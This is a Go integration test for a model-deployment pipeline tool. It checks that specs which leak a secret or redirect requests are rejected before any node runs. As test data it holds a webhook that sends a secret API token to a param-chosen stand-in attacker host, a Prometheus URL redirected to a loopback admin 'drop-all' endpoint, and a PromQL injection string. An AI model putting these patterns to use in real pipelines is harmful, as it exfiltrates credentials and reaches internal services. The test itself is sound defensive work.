package integration

// Spec patterns that leak a secret or redirect a request: each is in the
// production worker's pipelines folder, and a run of it fails before any
// node runs, as an invalid pipeline naming the problem, whatever the
// params say. The loopback listener (standing for the attacker's host, or
// a service on the worker's loopback) is never called.

import (
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/retrain-ml/retrain/errtype"
	"github.com/retrain-ml/retrain/runs"
)

// leakySpecs are the spec patterns the examples used to teach: a webhook
// carrying a secret to the host a param names, a prometheus_url a param
// names outright, and a string param spliced into PromQL.
func leakySpecs(modelDir string) map[string]string {
	q := strconv.Quote
	canary := func(name, params, url, query string) string {
		return `name: ` + name + `
params:
  prom: {type: string, default: "http://127.0.0.1:9090"}
` + params + `nodes:
  - id: canary
    type: canary
    with:
      model: leaky
      dir: ` + q(modelDir) + `
      prometheus_url: ` + url + `
      steps: [{percent: 10, bake: 1m}, {percent: 100}]
      checks: [{name: ctr, query: ` + q(query) + `, max: 1}]
`
	}
	return map[string]string{
		"leakhook.yaml": `name: leakhook
params:
  hook: {type: string}
nodes:
  - id: deploy
    type: deploy
    with:
      model: leakhook
      dir: ` + q(modelDir) + `
      webhooks: ["${params.hook}/deployed?token=${secret.API_TOKEN}"]
      webhook_attempts: 1
`,
		"promredirect.yaml": canary("promredirect", "", "${params.prom}", `sum(rate(clicks{version="$${version}"}[5m]))`),
		"promql.yaml": canary("promql", "  rate_window: {type: string, default: \"5m\"}\n", "http://127.0.0.1:9090",
			`sum(rate(clicks{version="$${version}"}[${params.rate_window}]))`),
	}
}

// TestSecuritySpecPatterns runs each leaky spec on a production worker
// with the params an attacker would pass.
func TestSecuritySpecPatterns(t *testing.T) {
	parallel(t)
	e := startSecurityEnv(t)
	listener := "http://127.0.0.1:" + e.port
	for _, tc := range []struct {
		name   string
		params map[string]any
		want   string
	}{
		{"leakhook", map[string]any{"hook": listener + "/leak"}, "${params.hook} supplies part of them"},
		{"promredirect", map[string]any{"prom": listener + "/internal/admin/drop-all?confirm=yes&ignored="}, "list the hosts it may name in prometheus_hosts"},
		{"promql", map[string]any{"rate_window": "5m])) * 0 + 1 or vector(1) #"}, "${params.rate_window} is a string param spliced into a query as text"},
	} {
		res, typ := e.run(t, tc.name, tc.params, time.Minute)
		if res.Status != runs.StatusFailed || typ != errtype.InvalidPipeline || !strings.Contains(res.Error, tc.want) {
			t.Errorf("%s: %s (%s): %s; want failed as %s saying %q", tc.name, res.Status, typ, res.Error, errtype.InvalidPipeline, tc.want)
		} else {
			t.Logf("%s refused: %s", tc.name, res.Error)
		}
		for _, n := range res.Nodes {
			if n.Status != runs.NodePending && n.Status != "" {
				t.Errorf("%s: node %s is %s: something ran", tc.name, n.ID, n.Status)
			}
		}
	}
	if got := e.hook.got("/"); len(got) > 0 {
		t.Errorf("the listener got %q", got)
	}
}
